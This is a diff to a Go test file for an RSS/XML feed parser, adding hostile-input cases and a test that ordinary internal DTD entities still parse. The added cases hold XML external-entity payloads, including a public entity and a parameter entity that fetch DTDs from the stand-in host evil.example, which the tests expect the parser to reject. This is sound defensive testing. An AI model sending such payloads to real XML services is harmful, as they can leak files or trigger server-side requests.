@@ -161,6 +161,9 @@ func TestParseHostileXML(t *testing.T) {
 	}{
 		{"billion laughs", billionLaughs, ErrEntityDeclaration},
 		{"external entity", xxe, ErrEntityDeclaration},
+		{"public external entity", `<!DOCTYPE rss [<!ENTITY x PUBLIC "-//x//EN" "http://evil.example/x.dtd">]><rss><channel><title>&x;</title></channel></rss>`, ErrEntityDeclaration},
+		{"parameter entity", `<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rss><channel><title>x</title></channel></rss>`, ErrEntityDeclaration},
+		{"entity outside a subset", `<rss><channel><!ENTITY a "b"><title>x</title></channel></rss>`, ErrEntityDeclaration},
 		{"truncated", `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><title>cut`, nil},
 		{"binary garbage", "\x00\x01\x02\xff\xfe\x89PNG\r\n\x1a\n\x00\x00garbage", nil},
 		{"empty", "", ErrNotAFeed},
@@ -178,6 +181,24 @@ func TestParseHostileXML(t *testing.T) {
 				t.Fatalf("err = %v, want %v", err, tt.wantErr)
 			}
 		})
+	}
+}
+
+func TestParseBenignDTD(t *testing.T) {
+	feed := `<?xml version="1.0"?>
+<!DOCTYPE rss [
+  <!ENTITY nbsp "&#160;">
+  <!ENTITY mdash '&#8212;'>
+]>
+<rss version="2.0"><channel><title>Old&nbsp;feed</title>
+<item><title>Talks resume &mdash; officials</title><link>https://example.org/1</link></item>
+</channel></rss>`
+	title, items, _, err := Parse([]byte(feed), "", "")
+	if err != nil {
+		t.Fatalf("Parse: %v", err)
+	}
+	if title != "Old feed" || len(items) != 1 || items[0].Title != "Talks resume — officials" {
+		t.Errorf("title %q, items %+v", title, items)
 	}
 }
 
